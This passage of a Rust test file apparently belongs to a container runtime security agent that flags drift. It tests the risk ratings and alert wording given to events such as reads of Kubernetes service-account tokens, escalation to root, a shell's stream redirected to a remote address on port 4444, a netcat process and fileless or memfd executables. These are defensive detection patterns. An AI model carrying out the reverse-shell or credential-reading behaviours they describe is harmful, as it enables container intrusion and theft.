    assert_eq!(risk(&cat, read("/run/secrets/password")), Risk::Low);
    let token = "/run/secrets/kubernetes.io/serviceaccount/token";
    assert_eq!(risk(&cat, read(token)), Risk::Medium);
    let back = |exe, uid| {
        let mut who = who(&[exe, "/bin/sh"]);
        who.uid = uid;
        let back = EventKind::Credentials {
            old_uid: 65_534,
            new_uid: 0,
            old_caps: 0,
            new_caps: 0,
        };
        risk(&who, back)
    };
    assert_eq!(back("/usr/bin/su", 0), Risk::Low);
    assert_eq!(back("/usr/bin/su", 1000), Risk::High);
    assert_eq!(back("/opt/x", 0), Risk::High);
}

#[test]
fn what_is_said_of_an_act_is_true_of_it() {
    let cat = who(&["/bin/cat", "/bin/sh"]);
    let disk = file(FileOp::Failed, "/dev/vda", Origin::Unknown);
    let v = verdict(&cat, disk);
    assert_eq!(only_drift(&v).class, DriftClass::HostControlFile);
    let v = verdict(&cat, dropped("/bin/dash", Origin::Foreign));
    let foreign = v
        .drifts
        .iter()
        .find(|d| d.class == DriftClass::ProgramFromWritable);
    let reason = &foreign.expect("it alerts").reason;
    assert!(!reason.to_string().contains("came into"), "{reason}");
    let library = EventKind::Library {
        path: "/usr/lib/libc.so.6".into(),
        origin: Origin::Foreign,
    };
    let v = verdict(&cat, library);
    let reason = only_drift(&v).reason.to_string();
    assert!(!reason.contains("came into"), "{reason}");
    // a peer is named, so that somebody can look for it
    let peer = Some(SockAddr::Inet([192, 0, 2, 1].into(), 4444));
    let dup = EventKind::Dup {
        stream: 0,
        target: DupTarget::Inet,
        peer,
    };
    assert!(
        only_drift(&verdict(&cat, dup))
            .reason
            .to_string()
            .contains("192.0.2.1:4444")
    );
}

/// As `/proc` showed it when the agent came.
fn found(mut e: plimsoll_model::event::Exec) -> EventKind {
    e.found = true;
    EventKind::Exec(e)
}

#[test]
fn what_was_found_running_is_judged_by_its_program_and_a_known_one_is_quiet() {
    // under a parent that was never seen starting it, with a title in place of its arguments
    let mut known = exec(NGINX);
    known.argv = vec!["nginx: worker process".into()];
    let orphan = who(&[NGINX, "/usr/bin/tini"]).entry(Entry::FoundRunning);
    let v = verdict(&orphan, found(known));
    assert!(v.drifts.is_empty(), "{v:?}");
    // its twin: one that the baseline does not know
    let stranger = who(&["/usr/bin/nc", "/usr/bin/tini"]).entry(Entry::FoundRunning);
    let v = verdict(&stranger, found(exec("/usr/bin/nc")));
    assert_eq!(v.drifts[0].class, DriftClass::NewProgram);
    let reason = &v.drifts[0].reason;
    assert!(
        reason.contains("ran already when the agent came, since "),
        "{reason}"
    );
}

#[test]
fn what_was_found_running_is_quarantined_by_risk_with_a_baseline_that_learns_and_without_one() {
    let c = container("x", 0);
    let by_shell = |exe: &'static str| who(&[exe, "/bin/sh"]).entry(Entry::FoundRunning);
    let mut upper = exec("/tmp/x");
    upper.origin = Origin::Upper;
    let mut memfd = exec("/memfd:x");
    (memfd.origin, memfd.deleted) = (Origin::Memfd, true);
    let mut deleted = exec("/usr/bin/x");
    (deleted.origin, deleted.deleted) = (Origin::Unknown, true);
    for (who, program, class) in [
        (by_shell("/tmp/x"), upper, DriftClass::ProgramFromWritable),
        (by_shell("/memfd:x"), memfd, DriftClass::FilelessProgram),
        (by_shell("/usr/bin/x"), deleted, DriftClass::FilelessProgram),
        (
            who(&["/bin/sh", NGINX]).entry(Entry::FoundRunning),
            exec("/bin/sh"),
            DriftClass::ShellUnderServer,
        ),
    ] {
        let mut obs = see(&c, 500, &who, found(program));
        // long after the container began
        obs.event.process.key.start = BootNs(400 * SECOND);
        let alone = plimsoll_baseline::judge(&obs, &c, None, &behaviours_of(&obs, &c));
        assert_eq!(alone.drifts[0].class, class);
        let mut b = fresh(&c);
        let v = observe(&mut b, &c, &obs);
        assert_eq!(v.drifts[0].class, class);
        assert!(b.has_told(&v.drifts[0]));
        let mut other = v.drifts[0].clone();
        other.instance.start = BootNs(1);
        assert!(!b.has_told(&other), "not of another instance");
    }
}

#[test]
fn what_was_found_running_teaches_its_program_and_not_its_arguments_or_a_file_nobody_can_place() {
    let c = container("x", 0);
    let mut b = fresh(&c);
    let daemon = who(&["/usr/sbin/crond", "/usr/bin/tini"]).entry(Entry::FoundRunning);
    let v = observe(
        &mut b,
        &c,
        &see(&c, 5, &daemon, found(exec("/usr/sbin/crond"))),
    );
    assert_eq!((v.learned.len(), v.drifts.len()), (1, 0));
    let mut unplaced = exec("/usr/sbin/other");
    unplaced.origin = Origin::Unknown;
    let other = who(&["/usr/sbin/other", "/usr/bin/tini"]).entry(Entry::FoundRunning);
    let v = observe(&mut b, &c, &see(&c, 5, &other, found(unplaced)));
    assert!(v.is_known(), "{v:?}");
}

#[test]
fn a_helper_of_the_entry_point_is_no_shell_of_the_server_that_this_became() {
    let c = container("x", 0);
    let helper = who(&["/bin/sh", NGINX]).entry(Entry::FoundRunning);
    let mut obs = see(&c, 500, &helper, found(exec("/bin/sh")));
    obs.event.process.key.start = BootNs(3 * SECOND);
    let v = plimsoll_baseline::judge(&obs, &c, None, &behaviours_of(&obs, &c));
    assert!(v.drifts.is_empty(), "{v:?}");
}

fn behaviours_of(obs: &Observation, c: &Container) -> Vec<Behaviour> {
    plimsoll_baseline::behaviours(obs, c, &plimsoll_baseline::NoNames)
}

#[test]
fn the_alert_about_what_was_found_running_names_no_call_that_nobody_saw() {
    let c = container("x", 0);
    let mut upper = exec("/tmp/x");
    upper.origin = Origin::Upper;
    let by_shell = who(&["/tmp/x", "/bin/sh"]).entry(Entry::FoundRunning);
    let mut obs = see(&c, 500, &by_shell, found(upper));
    obs.event.process.key.start = BootNs(400 * SECOND);
    let v = plimsoll_baseline::judge(&obs, &c, None, &behaviours_of(&obs, &c));
    let id = AlertId::parse("A-1").unwrap();
    let a = alert(&v.drifts[0], &obs, &c, id, Novelty::First).expect("an alert");
    let field = |name: &str| {
        let found = a.fields.iter().find(|(n, _)| n == name);
        found.map(|(_, v)| v.to_string()).unwrap_or_default()
    };
    assert_eq!(field("evt.type"), "found_running");
    assert_eq!(field("plimsoll.running_since"), at(400).wall.rfc3339());
    assert!(a.tags.contains(&"found-running".to_owned()));
}
